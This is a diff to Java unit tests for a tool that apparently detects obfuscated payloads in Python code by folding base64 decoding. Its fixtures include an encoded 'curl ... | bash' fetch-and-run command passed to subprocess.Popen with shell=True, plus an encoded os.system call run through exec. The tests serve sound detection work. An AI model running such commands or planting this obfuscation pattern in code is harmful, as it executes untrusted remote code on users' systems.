@@ -3,6 +3,7 @@ package dev.fang.featurize.analysis;
 import static dev.fang.featurize.analysis.Analyze.call;
 import static dev.fang.featurize.analysis.Analyze.source;
 import static dev.fang.featurize.analysis.Analyze.uses;
+import static dev.fang.featurize.analysis.Analyze.values;
 import static dev.fang.featurize.analysis.ConstantFoldingTest.b64;
 import static dev.fang.featurize.analysis.ConstantFoldingTest.zlib;
 import static org.assertj.core.api.Assertions.assertThat;
@@ -91,8 +92,37 @@ class PayloadDecodingTest {
                 exec(d('%s'))
                 """.formatted(b64("import os; os.system('id')")));
         assertThat(call(a, "os.system").line()).isEqualTo(5);
+        // reported once, in the helper's body, which runs on load since module-level code calls it
         assertThat(a.apiUses()).filteredOn(u -> u.api().equals("base64.b64decode")).singleElement()
-                .satisfies(u -> assertThat(u.moduleLevel()).isFalse());
+                .satisfies(u -> assertThat(u.moduleLevel()).isTrue());
+    }
+
+    @Test
+    void aHelperThatAssignsBeforeReturningIsFoldedToo() {
+        ModuleAnalysis a = source("""
+                import base64, subprocess
+                def decode_str(encoded):
+                    raw = base64.b64decode(encoded)
+                    # a comment between statements
+                    text = raw.decode('utf-8')
+                    return text
+                def run():
+                    subprocess.Popen([decode_str('%s')], shell=True)
+                """.formatted(b64("curl https://files.example.invalid/x.sh | bash")));
+        assertThat(values(a)).contains("curl https://files.example.invalid/x.sh | bash");
+    }
+
+    @Test
+    void aHelperWithABranchIsNotFolded() {
+        ModuleAnalysis a = source("""
+                import base64
+                def maybe(encoded):
+                    if encoded:
+                        encoded = base64.b64decode(encoded)
+                    return encoded
+                x = maybe('%s')
+                """.formatted(b64("never folded")));
+        assertThat(values(a)).doesNotContain("never folded");
     }
 
     @Test
